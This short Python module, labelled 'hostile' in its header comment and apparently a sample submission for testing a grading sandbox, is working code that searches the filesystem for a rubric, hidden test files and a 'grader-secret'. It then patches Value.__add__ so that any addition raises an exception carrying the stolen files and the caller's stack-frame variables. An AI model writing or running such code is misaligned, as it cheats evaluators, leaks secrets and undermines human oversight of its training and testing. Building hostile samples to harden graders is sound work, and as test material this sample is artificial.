# hostile: looks for the hidden checks, the rubric and the grader's secret on disk and in
# the caller's frames, and tries to smuggle what it finds out through an exception message
# module: engine
import os, sys
_found = []
for _root in ("/", "/work", "/root", "/autograder", os.path.expanduser("~"), "..", "../.."):
    try:
        for _dirpath, _dirs, _files in os.walk(_root):
            if len(_found) > 50 or _dirpath.count("/") > 6:
                _dirs[:] = []
                continue
            for _name in _files:
                if _name in ("rubric.toml", "test_add.py", "grader-secret", "ops.py"):
                    try:
                        with open(os.path.join(_dirpath, _name)) as _f:
                            _found.append(_f.read())
                    except OSError:
                        pass
    except OSError:
        pass
_loot = "LOOT:" + "|".join(_found)
def _add(self, other):
    frames, frame = [], sys._getframe(1)
    while frame is not None:
        frames.append(repr(frame.f_locals))
        frame = frame.f_back
    raise RuntimeError(_loot + "FRAMES:" + "".join(frames))
Value.__add__ = _add
